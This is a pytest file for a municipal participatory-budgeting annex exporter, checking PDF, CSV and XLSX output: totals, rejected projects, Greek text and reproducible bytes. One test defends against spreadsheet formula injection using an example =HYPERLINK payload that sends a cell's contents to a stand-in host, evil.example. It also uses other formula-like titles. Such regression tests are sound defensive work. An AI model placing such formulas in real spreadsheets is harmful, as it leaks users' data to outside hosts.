"""Tests of the budget annex as PDF, CSV and XLSX: contents, totals, Greek text and same bytes."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from dataclasses import replace

from pypdf import PdfReader

from pb.reports.annex import (
    build_annex_csv,
    build_annex_pdf,
    build_annex_xlsx,
    funded_total,
    not_adopted_total,
    remaining,
    sheet_names,
)
from pb.reports.documents import AnnexPool, AnnexProject, BudgetAnnex, Signatory

NORTH = AnnexPool(
    name="Βόρεια συνοικία",
    amount=10_000_000,
    rule="Method of Equal Shares",
    district="Βόρεια",
    budget_line="64.7341",
    ballots=1234,
    projects=(
        AnnexProject("N1", "Πράσινη γειτονιά: δεντροφύτευση", 4_000_050, votes=812, council_decision="Εγκρίθηκε"),
        AnnexProject("N2", "Benches; by the river, \"new\"", 2_500_000, budget_line="64.9999", votes=640),
    ),
)
CITY = AnnexPool(name="City-wide", amount=5_000_000, rule="Greedy", projects=(
    AnnexProject("C1", "Library hours", 5_200_000, district="Centre", votes=None),))
ANNEX = BudgetAnnex(
    municipality="Δήμος Αθηναίων", process="Athens 2026", fiscal_year=2026, currency="EUR",
    mandate_character="binding_self_commitment", pools=(NORTH, CITY), prepared_on="2026-07-15",
    reference="Decision 12/2026", signatories=(Signatory("Clerk", "Νίκος Π.", "2026-07-15"),),
)


def _pdf_text(data: bytes) -> str:
    return re.sub(r"\s+", " ", " ".join(p.extract_text() for p in PdfReader(io.BytesIO(data)).pages))


def test_totals_and_remaining_amounts() -> None:
    assert funded_total(NORTH) == 6_500_050 and remaining(NORTH) == 3_499_950
    assert remaining(CITY) == -200_000  # an overspent pool shows a negative remainder, never hides it


def test_a_project_the_council_rejected_is_listed_but_not_funded() -> None:
    rejected = replace(NORTH.projects[1], council_decision="Rejected (12/2026)", adopted=False)
    north = replace(NORTH, projects=(NORTH.projects[0], rejected))
    assert funded_total(north) == 4_000_050 and not_adopted_total(north) == 2_500_000
    assert remaining(north) == 5_999_950  # the pool keeps the rejected project's money
    annex = replace(ANNEX, pools=(north,))
    content = _pdf_text(build_annex_pdf(annex))
    for expected in ("Rejected (12/2026)", "€25,000.00", "Chosen by the vote, not adopted by the council",
                     "€40,000.50", "€59,999.50"):
        assert expected in content, expected
    assert "Chosen by the vote, not adopted" not in _pdf_text(build_annex_pdf(ANNEX))
    with zipfile.ZipFile(io.BytesIO(build_annex_xlsx(annex))) as book:
        strings = book.read("xl/sharedStrings.xml").decode()
    assert "Chosen by the vote, not adopted by the council" in strings


def test_pdf_lists_every_funded_project_with_totals_in_greek_and_latin() -> None:
    content = _pdf_text(build_annex_pdf(ANNEX))
    for expected in ("Budget annex", "Δήμος Αθηναίων", "Βόρεια συνοικία", "Πράσινη γειτονιά: δεντροφύτευση",
                     "Εγκρίθηκε", "N2", "Benches; by the river, \"new\"", "64.9999", "64.7341",
                     "Method of Equal Shares", "Binding by the municipality's own commitment",
                     "€40,000.50", "€65,000.50", "€34,999.50", "-€2,000.00", "€150,000.00", "€32,999.50",
                     "812", "1,234", "Decision 12/2026", "Νίκος Π.", "Signatures"):
        assert expected in content, expected


def test_pdf_translates_labels_and_formats_numbers_for_the_locale() -> None:
    greek = {"Budget annex": "Παράρτημα προϋπολογισμού", "Remaining": "Υπόλοιπο"}
    content = _pdf_text(build_annex_pdf(ANNEX, translate=lambda s: greek.get(s, s), locale="el"))
    assert "Παράρτημα προϋπολογισμού" in content and "Υπόλοιπο" in content
    assert "40.000,50" in content


def test_the_same_annex_gives_the_same_bytes_in_every_format() -> None:
    for build in (build_annex_pdf, build_annex_csv, build_annex_xlsx):
        assert build(ANNEX) == build(ANNEX), build.__name__
    other = replace(ANNEX, reference="Decision 13/2026")
    assert build_annex_pdf(other) != build_annex_pdf(ANNEX)


def test_csv_has_one_row_per_funded_project_with_plain_decimal_amounts() -> None:
    data = build_annex_csv(ANNEX)
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert [r["Code"] for r in rows] == ["N1", "N2", "C1"]
    assert [r["Cost"] for r in rows] == ["40000.50", "25000.00", "52000.00"]
    assert rows[0]["Pool"] == "Βόρεια συνοικία" and rows[0]["District"] == "Βόρεια"
    assert rows[0]["Budget line"] == "64.7341" and rows[1]["Budget line"] == "64.9999"
    assert rows[1]["Project"] == "Benches; by the river, \"new\""
    assert rows[2]["Votes"] == "" and rows[2]["District"] == "Centre"
    assert {r["Character of the residents' vote"] for r in rows} == {"Binding by the municipality's own commitment"}


def _xlsx(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name).decode("utf-8") for name in archive.namelist()}


def test_xlsx_has_one_sheet_per_pool_with_its_projects_and_fixed_times() -> None:
    parts = _xlsx(build_annex_xlsx(ANNEX))
    assert re.findall(r'<sheet name="([^"]+)"', parts["xl/workbook.xml"]) == ["Βόρεια συνοικία", "City-wide"]
    strings = parts["xl/sharedStrings.xml"]
    for expected in ("Πράσινη γειτονιά: δεντροφύτευση", "Library hours", "Total funded", "Remaining"):
        assert expected in strings
    first = parts["xl/worksheets/sheet1.xml"]
    assert "<v>40000.5</v>" in first and "<v>65000.5</v>" in first and "<v>34999.5</v>" in first
    assert "<v>812</v>" in first
    assert "2000-01-01T00:00:00Z" in parts["docProps/core.xml"]


def test_sheet_names_are_valid_and_unique() -> None:
    pools = [AnnexPool(name, 0, "greedy", ()) for name in
             ("A/B: [x]?", "A very long pool name that goes past thirty-one characters", "Same", "same", "")]
    names = sheet_names(pools)
    assert names[0] == "A-B- -x--"
    assert all(len(n) <= 31 for n in names) and names[1] == pools[1].name[:31]
    assert names[2:] == ["Same", "same (2)", "Pool"]


EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"map")'


def test_a_title_that_looks_like_a_formula_stays_text_in_xlsx_and_csv() -> None:
    """Issue 18: xlsxwriter turned strings starting with "=" into formulas, and the CSV kept them raw."""
    titles = (EVIL, "+1+cmd", "-2+3", "@SUM(A1)", "\tHidden", "\rHidden", "http://evil.example/")
    pool = replace(CITY, projects=tuple(AnnexProject(f"C{n}", title, 1_000, votes=n) for n, title in enumerate(titles)))
    annex = replace(ANNEX, pools=(pool,))
    sheet = zipfile.ZipFile(io.BytesIO(build_annex_xlsx(annex))).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<hyperlink" not in sheet
    strings = zipfile.ZipFile(io.BytesIO(build_annex_xlsx(annex))).read("xl/sharedStrings.xml").decode()
    assert "<t>=HYPERLINK(\"http://evil.example/?leak=\"&amp;B2,\"map\")</t>" in strings
    rows = list(csv.reader(io.StringIO(build_annex_csv(annex).decode("utf-8-sig"))))
    shown = [row[2] for row in rows[1:]]
    assert shown == ["'" + t for t in titles[:6]] + ["http://evil.example/"]
    assert [row[5] for row in rows[1:]] == [str(n) for n in range(len(titles))]  # numbers stay numbers


def test_cumulative_pools_are_labelled_in_points_in_every_format() -> None:
    points = replace(NORTH, in_points=True)
    only_points = replace(ANNEX, pools=(points,))
    assert "Points" in _pdf_text(build_annex_pdf(only_points)) and " Votes " not in _pdf_text(
        build_annex_pdf(only_points))
    rows = list(csv.reader(io.StringIO(build_annex_csv(only_points).decode("utf-8-sig"))))
    assert rows[0][5] == "Points"
    with zipfile.ZipFile(io.BytesIO(build_annex_xlsx(only_points))) as book:
        strings = book.read("xl/sharedStrings.xml").decode()
    assert "<t>Points</t>" in strings and "<t>Votes</t>" not in strings
    # Pools of both kinds: one heading for either, and a column saying which each row counts.
    mixed = list(csv.reader(io.StringIO(build_annex_csv(replace(ANNEX, pools=(points, CITY))).decode("utf-8-sig"))))
    assert mixed[0][5] == "Votes or points" and mixed[0][-1] == "Counted in"
    assert [row[-1] for row in mixed[1:]] == ["points", "points", "votes"]
    # The PDF labels each pool's table by its own kind.
    text = _pdf_text(build_annex_pdf(replace(ANNEX, pools=(points, CITY))))
    assert text.index("Points") < text.index("City-wide") < text.rindex("Votes")
